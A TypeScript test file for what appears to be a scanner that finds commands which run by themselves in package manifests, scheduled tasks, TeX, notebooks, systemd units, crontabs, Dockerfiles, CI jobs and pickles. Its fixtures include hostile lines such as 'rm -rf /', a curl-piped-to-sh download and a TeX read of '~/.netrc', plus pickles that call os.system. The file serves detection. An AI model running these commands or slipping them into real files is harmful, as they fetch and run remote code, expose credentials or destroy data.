// What runs by itself is read as the scripts that it is: manifests, tasks, notebooks, units, tables, agents; and pickles are walked.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { manifestCommands } from '../../../src/file/formats/automation/manifests.ts'
import { unitCommands } from '../../../src/file/formats/automation/units.ts'
import { readPickle } from '../../../src/file/formats/pickle/walk.ts'
import { identify } from '../../../src/file/identify/identify.ts'

const json = (value: unknown): string => JSON.stringify(value)

test('lifecycle scripts of a package are commands, other scripts are not', () => {
  const found = manifestCommands(json({ scripts: { postinstall: 'node x.js', test: 'rm -rf /', build: 'tsc' } }))
  assert.deepEqual(
    found?.commands.map(({ when, text }) => [when, text]),
    [['scripts.postinstall', 'node x.js']],
  )
  assert.equal(found?.isUnasked, true)
})

test('a command line of an interpreter is read in its language', () => {
  const [command] = manifestCommands(json({ scripts: { preinstall: `node -e "require('fs')"` } }))?.commands ?? []
  assert.equal(command?.language, 'javascript')
  assert.equal(command?.text, "require('fs')")
})

test('a task of Windows runs its action', () => {
  const found = unitCommands(
    '<?xml version="1.0"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>cmd.exe</Command><Arguments>/c a.cmd &amp; b.cmd</Arguments></Exec></Actions></Task>',
    'xml',
  )
  assert.deepEqual(
    found?.commands.map(({ text }) => text),
    ['cmd.exe /c a.cmd & b.cmd'],
  )
  assert.equal(unitCommands('<project><target name="a"/></project>', 'xml'), null)
})

test('what TeX hands to a shell is a command, what it only shows is none', () => {
  const found = unitCommands(
    '\\immediate\\write18{curl -s https://files.example/a.sh | sh}\n% \\write18{rm -rf /}\n\\input{|"cat ~/.netrc"}\n\\input{chapter}',
    'latex',
  )
  assert.deepEqual(
    found?.commands.map(({ text }) => text),
    ['curl -s https://files.example/a.sh | sh', 'cat ~/.netrc'],
  )
})

test('tasks count when the folder starts them', () => {
  const task = (runOn: string): string =>
    json({ tasks: [{ command: 'make', windows: { command: 'build.cmd' }, runOptions: { runOn } }] })
  assert.equal(manifestCommands(task('folderOpen'))?.commands.length, 2)
  assert.equal(manifestCommands(task('default'))?.commands.length, 0)
})

test('cells of a notebook go to their language and to the shell', () => {
  const cells = [
    { cell_type: 'markdown', source: ['!not run'] },
    { cell_type: 'code', source: ['import os\n', '!ls -l\n', 'os.getcwd()'] },
    { cell_type: 'code', source: '%%bash\necho hello' },
  ]
  const found = manifestCommands(json({ cells, metadata: {}, nbformat: 4 }))?.commands ?? []
  assert.deepEqual(
    found.map(({ language, text }) => [language, text]),
    [
      ['shell', 'ls -l'],
      ['python', 'import os\n\nos.getcwd()'],
      ['shell', 'echo hello'],
    ],
  )
})

test('JSON of other kinds and broken JSON hold no commands', () => {
  for (const text of ['{}', '[1,2]', '{"scripts":', '{"scripts":{"x":1}}', '{"tasks":3}', '{"cells":{}}', 'null'])
    assert.equal(manifestCommands(text)?.commands.length ?? 0, 0, text)
})

test('units, tables, containers, agents and jobs give their commands', () => {
  const commands = (text: string, type: string): readonly string[] =>
    unitCommands(text, type)?.commands.map((command) => command.text) ?? []
  assert.deepEqual(commands('[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c "x"\n', 'systemd_unit'), [
    '/bin/true',
    '/bin/sh -c "x"',
  ])
  assert.deepEqual(commands('# a\nA=b\n*/5 * * * * curl x\n@reboot root /x\nnot a line\n', 'crontab'), [
    'curl x',
    'root /x',
  ])
  assert.deepEqual(commands('FROM a\nRUN a && \\\n b\nCMD ["x","y z"]\nCOPY . .\n', 'dockerfile'), [
    'a &&   b',
    'x y z',
  ])
  assert.deepEqual(
    commands(
      '<plist><key>ProgramArguments</key><array><string>sh</string><string>a &amp; b</string></array></plist>',
      'plist',
    ),
    ['sh a & b'],
  )
  assert.deepEqual(
    commands(
      'jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          one\n          two\n      - run: three\n',
      'yaml',
    ),
    ['one\ntwo', 'three'],
  )
  assert.deepEqual(
    commands(
      'version: 2.1\njobs:\n  a:\n    steps:\n      - run:\n          name: Build\n          command: |\n            make\n            curl x\n      - run: three\n',
      'yaml',
    ),
    ['make\ncurl x', 'three'],
  )
  assert.deepEqual(commands('run: x\nother: y\n', 'yaml'), [])
})

test('imports of pickles of every protocol are found', () => {
  const names = (bytes: Uint8Array): readonly string[] =>
    readPickle(bytes).imports.map(({ module, name }) => `${module}.${name}`)
  assert.deepEqual(names(Buffer.from("cos\nsystem\n(S'true'\ntR.")), ['os.system'])
  assert.deepEqual(
    names(Buffer.from('\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03.', 'latin1')),
    ['posix.system'],
  )
  assert.deepEqual(
    names(
      Buffer.from(
        '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.',
        'latin1',
      ),
    ),
    ['posix.system'],
  )
  assert.equal(
    readPickle(
      Buffer.from(
        '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.',
        'latin1',
      ),
    ).calls,
    1,
  )
})

test('a pickle that lies about its lengths ends the walk', () => {
  for (const text of [
    '\x80\x04X\xff\xff\xff\xff',
    '\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\x7f',
    'cos',
    '\x93\x93\x93',
    '',
  ])
    assert.ok(readPickle(Buffer.from(text, 'latin1')).opcodes <= 4)
})

test('new kinds of text are told by their content', () => {
  const kind = (text: string, name: string): string => identify(Buffer.from(text), name).id
  assert.equal(kind('[Unit]\nDescription=x\n', 'x.service'), 'systemd_unit')
  assert.equal(kind('MAILTO=a\n0 3 * * * /usr/bin/x\n', 'x'), 'crontab')
  assert.equal(
    kind('// a\nimport "pe"\n\nrule a : b {\n  strings:\n    $a = "x"\n  condition: $a\n}\n', 'x'),
    'yara_rules',
  )
  assert.equal(kind('[Shell]\nCommand=2\nIconFile=a\n', 'x.scf'), 'shell_command_file')
  assert.equal(kind('1 2 3 4 5\n6 7 8 9 10\n', 'x.txt'), 'text')
})

test('identifying a text of nothing but comments is cheap', () => {
  const began = process.cpuUsage()
  for (const text of [
    '/* a */\n'.repeat(600),
    '/*\n * x\n */\n\n'.repeat(400),
    '// a\n'.repeat(900),
    `import "a" ${'/*'.repeat(2000)}`,
  ])
    identify(Buffer.from(text), 'x.h')
  const { user } = process.cpuUsage(began)
  assert.ok(user < 1_500_000, `${user} µs`)
})
